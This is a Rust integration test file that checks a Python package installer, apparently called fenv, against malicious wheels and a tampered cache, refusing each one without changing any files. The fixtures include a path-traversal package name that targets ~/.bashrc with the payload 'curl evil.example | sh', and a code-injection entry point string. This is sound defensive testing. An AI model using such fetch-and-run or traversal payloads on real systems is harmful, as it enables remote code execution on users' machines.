//! fenv against an attacker who controls the index and the lock: wheels
//! whose metadata lies, whose names climb out of the environment, whose
//! entry points are code, that take over other packages' scripts. Each
//! scenario runs the real `fenv sync` on a lock written by hand and checks
//! that it refuses with one clear error, and that nothing under the test's
//! root changed (every file hashed before and after; the cache aside).

use std::path::PathBuf;

use crate::common::{TestContext, pyenv_python, require, run, run_ok};
use crate::support::index::TestIndex;
use crate::support::lock::{self, LockedWheel};
use crate::support::tree::Snapshot;
use crate::support::wheel::WheelBuilder;

/// An environment (CPython 3.12, pip seeded), an index, and a victim file
/// outside the environment that attacks aim at.
struct Sandbox {
    ctx: TestContext,
    index: TestIndex,
}

impl Sandbox {
    fn new() -> Option<Self> {
        let python = require("pyenv CPython 3.12", pyenv_python("3.12"))?;
        let ctx = TestContext::new();
        run_ok(ctx.fenv().args(["create", "-q", "-p"]).arg(&python).arg(".venv"));
        fs_err::write(ctx.home().join(".bashrc"), "# the user's own\n").unwrap();
        Some(Self {
            ctx,
            index: TestIndex::start(),
        })
    }

    fn wheels(&self) -> PathBuf {
        self.ctx.root().join("wheels")
    }

    /// Serves `wheel` and writes `hostile.toml`, a lock of it alone.
    fn lock_only(&self, name: &str, version: &str, wheel: WheelBuilder) {
        let path = wheel.build(&self.wheels());
        self.index.publish(&path);
        let bytes = fs_err::read(&path).unwrap();
        let file_name = path.file_name().unwrap().to_string_lossy().into_owned();
        let url = format!(
            "{}/files/{file_name}",
            self.index.url().trim_end_matches("/simple")
        );
        lock::write(
            &self.ctx.path("hostile.toml"),
            &[LockedWheel {
                name,
                version,
                file_name: &file_name,
                url,
                bytes: &bytes,
            }],
        );
    }

    /// Everything under the test's root but the cache.
    fn snapshot(&self) -> Snapshot {
        Snapshot::of(&self.ctx.root(), &[self.ctx.cache()])
    }

    /// Runs `fenv sync` of `hostile.toml`; asserts it fails changing
    /// nothing and returns its first error line.
    #[track_caller]
    fn refused(&self) -> String {
        let before = self.snapshot();
        let output = run(self
            .ctx
            .fenv()
            .args(["sync", "--lock", "hostile.toml", "--env", ".venv"])
            .env("FENV_INDEX_URL", self.index.url()));
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(1), "{stderr}");
        let changes = before.changes(&self.snapshot());
        assert!(
            changes.is_empty(),
            "the refused sync changed:\n{}\n{stderr}",
            changes.join("\n")
        );
        assert!(!self.ctx.path(".venv/.fenv-sync-pending").exists(), "{stderr}");
        stderr
            .lines()
            .find(|l| l.starts_with("error:"))
            .unwrap_or_default()
            .to_string()
    }

    /// Runs `fenv sync` of `hostile.toml` and asserts it succeeds.
    #[track_caller]
    fn synced(&self) {
        run_ok(
            self.ctx
                .fenv()
                .args(["sync", "--lock", "hostile.toml", "--env", ".venv"])
                .env("FENV_INDEX_URL", self.index.url()),
        );
    }
}

#[test]
fn a_wheel_whose_name_climbs_out_of_the_environment_writes_nothing() {
    // `include/site/python3.12/<Name>/.bashrc`, five levels below the
    // test's root: the user's ~/.bashrc, had the name become a path.
    let Some(s) = Sandbox::new() else { return };
    s.lock_only(
        "evil",
        "1.0",
        WheelBuilder::new("evil", "1.0")
            .metadata_text("Metadata-Version: 2.1\nName: ../../../../../home\nVersion: 1.0\n")
            .data("headers", ".bashrc", "curl evil.example | sh\n"),
    );
    let error = s.refused();
    assert!(
        error.ends_with(
            "the wheel `evil-1.0-py3-none-any.whl` is invalid: its METADATA says `../../../../../home` 1.0, but its file name says `evil` 1.0"
        ),
        "{error}"
    );
    assert_eq!(
        fs_err::read_to_string(s.ctx.home().join(".bashrc")).unwrap(),
        "# the user's own\n"
    );
}

#[test]
fn metadata_that_names_another_package_or_version_is_refused() {
    for (metadata, says) in [
        ("Name: other\nVersion: 1.0", "`other` 1.0"),
        ("Name: evil\nVersion: 9.9", "`evil` 9.9"),
    ] {
        let Some(s) = Sandbox::new() else { return };
        s.lock_only(
            "evil",
            "1.0",
            WheelBuilder::new("evil", "1.0")
                .file("evil/__init__.py", "")
                .metadata_text(format!("Metadata-Version: 2.1\n{metadata}\n")),
        );
        let error = s.refused();
        assert!(
            error.ends_with(&format!(
                "its METADATA says {says}, but its file name says `evil` 1.0"
            )),
            "{error}"
        );
        assert!(error.contains("nothing was changed"), "{error}");
    }
}

#[test]
fn an_entry_point_that_is_code_is_refused() {
    let Some(s) = Sandbox::new() else { return };
    s.lock_only(
        "epj",
        "1.0",
        WheelBuilder::new("epj", "1.0")
            .file("epj/__init__.py", "")
            .entry_point(
                "console_scripts",
                "epj",
                "os import sep;open(\"x\",\"w\");from os:sep",
            ),
    );
    let error = s.refused();
    assert!(
        error.ends_with(
            "entry_points.txt: line 2: `os import sep;open(\"x\",\"w\");from os:sep` is not an object reference (`module.path:object.attr`)"
        ),
        "{error}"
    );
}

#[test]
fn script_names_that_are_not_file_names_are_refused() {
    for name in ["..", "sub/dir", "tab\there"] {
        let Some(s) = Sandbox::new() else { return };
        s.lock_only(
            "bad-name",
            "1.0",
            WheelBuilder::new("bad-name", "1.0")
                .file("bad_name/__init__.py", "def main(): pass\n")
                .entry_point("console_scripts", name, "bad_name:main"),
        );
        let error = s.refused();
        assert!(
            error.contains(&format!(
                "the script name `{}` is not a file name",
                name.escape_debug()
            )),
            "{error}"
        );
    }
}

#[test]
fn a_script_of_another_package_is_not_taken_over() {
    // The seeded pip owns bin/pip.
    let Some(s) = Sandbox::new() else { return };
    s.lock_only(
        "not-pip",
        "1.0",
        WheelBuilder::new("not-pip", "1.0")
            .file("not_pip/__init__.py", "def main(): pass\n")
            .entry_point("console_scripts", "pip", "not_pip:main"),
    );
    let error = s.refused();
    assert!(
        error.ends_with(&format!(
            "the wheel `not_pip-1.0-py3-none-any.whl` would replace `{}`, which `pip` installed",
            s.ctx.path(".venv/bin/pip").display()
        )),
        "{error}"
    );
}

#[test]
fn scripts_named_like_the_environments_own_files_install() {
    // argcomplete's: it starts with `activate` but is no activation script.
    let Some(s) = Sandbox::new() else { return };
    s.lock_only(
        "argcomplete",
        "3.5.0",
        WheelBuilder::new("argcomplete", "3.5.0")
            .file("argcomplete/__init__.py", "def main():\n    return 0\n")
            .entry_point(
                "console_scripts",
                "activate-global-python-argcomplete",
                "argcomplete:main",
            )
            .entry_point(
                "console_scripts",
                "python-argcomplete-check-easy-install-script",
                "argcomplete:main",
            ),
    );
    s.synced();
    let script = s.ctx.path(".venv/bin/activate-global-python-argcomplete");
    let status = run(&mut std::process::Command::new(&script));
    assert!(status.status.success(), "{status:?}");
    // The environment's own names stay refused.
    for reserved in ["activate", "python3", "python3.12"] {
        let Some(t) = Sandbox::new() else { return };
        t.lock_only(
            "takeover",
            "1.0",
            WheelBuilder::new("takeover", "1.0")
                .file("takeover/__init__.py", "def main(): pass\n")
                .entry_point("console_scripts", reserved, "takeover:main"),
        );
        let error = t.refused();
        assert!(
            error.ends_with(&format!(
                "would overwrite `{}`, which belongs to the environment",
                t.ctx.path(".venv/bin").join(reserved).display()
            )),
            "{error}"
        );
    }
}

/// The sha256 the lock in `project` records for `package`'s wheel.
fn locked_sha256(project: &crate::sync::Project, package: &str) -> String {
    let lock: toml::Value =
        toml::from_str(&fs_err::read_to_string(project.ctx.path("pylock.toml")).unwrap()).unwrap();
    let entry = lock["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"].as_str() == Some(package))
        .unwrap_or_else(|| panic!("{package} is not locked"));
    entry["wheels"][0]["hashes"]["sha256"]
        .as_str()
        .unwrap()
        .to_string()
}

/// `import a; print(a.__file__ content)` in the env at `env`.
fn module_text(project: &crate::sync::Project, env: &str) -> String {
    let file = project
        .ctx
        .path(env)
        .join("lib/python3.12/site-packages/a/__init__.py");
    fs_err::read_to_string(file).unwrap()
}

#[test]
fn a_poisoned_or_truncated_archive_in_the_cache_is_never_installed() {
    let Some(project) = crate::sync::Project::locked() else {
        return;
    };
    project.sync_ok(&[]);
    let sha = locked_sha256(&project, "a");
    let archive_dir = project.ctx.cache().join("archives").join(&sha);
    let archive = fs_err::read_dir(&archive_dir)
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path();
    let unpacked = project.ctx.cache().join("unpacked").join(&sha);

    // A crafted wheel under the real one's name and hash, its unpacked
    // entry gone: the sync downloads the real one, and installs that.
    let crafted = WheelBuilder::new("a", "1.0")
        .file("a/__init__.py", "HACKED = True\n")
        .build(&project.ctx.root().join("crafted"));
    fs_err::copy(&crafted, &archive).unwrap();
    fs_err::remove_dir_all(&unpacked).unwrap();
    project.sync_ok(&["--env", "poisoned"]);
    assert_eq!(module_text(&project, "poisoned"), "");
    run_ok(&mut project.fenv(&["check", "--env", "poisoned"]));

    // Cut short: not a dead end either.
    let bytes = fs_err::read(&archive).unwrap();
    fs_err::write(&archive, &bytes[..bytes.len() / 2]).unwrap();
    fs_err::remove_dir_all(&unpacked).unwrap();
    project.sync_ok(&["--env", "truncated"]);
    run_ok(&mut project.fenv(&["check", "--env", "truncated"]));
}

#[test]
fn an_edit_through_a_hardlink_does_not_reach_the_next_environment() {
    let Some(project) = crate::sync::Project::locked() else {
        return;
    };
    project.sync_ok(&["--link-mode", "hardlink"]);
    let file = project.env().join("lib/python3.12/site-packages/a/__init__.py");
    use std::os::unix::fs::PermissionsExt;
    // Read-only, so that a user's edit fails instead of reaching the cache.
    assert_eq!(
        fs_err::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o444
    );

    // root writes anyway: the cache's copy changes with it.
    fs_err::write(&file, "EDITED = True\n").unwrap();
    let (code, stdout) = {
        let output = run(&mut project.fenv(&["check"]));
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stdout).into_owned(),
        )
    };
    assert_eq!(code, Some(1));
    assert!(stdout.contains("error[file-modified]:"), "{stdout}");

    // The store sees its entry was changed and unpacks it again.
    project.sync_ok(&["--env", "fresh", "--link-mode", "hardlink"]);
    assert_eq!(module_text(&project, "fresh"), "");

    // A file of the entry cut short: the same.
    let sha = locked_sha256(&project, "a");
    let cached = project
        .ctx
        .cache()
        .join("unpacked")
        .join(&sha)
        .join("a/__init__.py");
    fs_err::write(&cached, "").unwrap();
    let record = project
        .ctx
        .cache()
        .join("unpacked")
        .join(&sha)
        .join("a-1.0.dist-info/METADATA");
    fs_err::write(&record, "x").unwrap();
    project.sync_ok(&["--env", "fresher"]);
    run_ok(&mut project.fenv(&["check", "--env", "fresher"]));

    // And what check found in the first env, sync --reinstall repairs.
    project.sync_ok(&["--reinstall", "a"]);
    run_ok(&mut project.fenv(&["check"]));
    assert_eq!(module_text(&project, ".venv"), "");
}

#[test]
fn scratch_left_by_killed_runs_is_swept_and_work_in_progress_is_not() {
    let Some(project) = crate::sync::Project::locked() else {
        return;
    };
    project.sync_ok(&[]);
    let tmp = project.ctx.cache().join("tmp");
    let left = tmp.join("download-killed");
    fs_err::create_dir_all(&left).unwrap();
    fs_err::write(left.join(".lock"), "").unwrap();
    fs_err::write(left.join("half.whl"), vec![0u8; 4096]).unwrap();
    let busy = tmp.join("unpack-busy");
    fs_err::create_dir_all(&busy).unwrap();
    let held = fs_err::File::create(busy.join(".lock")).unwrap();
    held.lock().unwrap();

    project.sync_ok(&["--env", "other"]);
    assert!(!left.exists(), "the killed run's download was not swept");
    assert!(busy.exists(), "a folder in use was swept");
    drop(held);
}
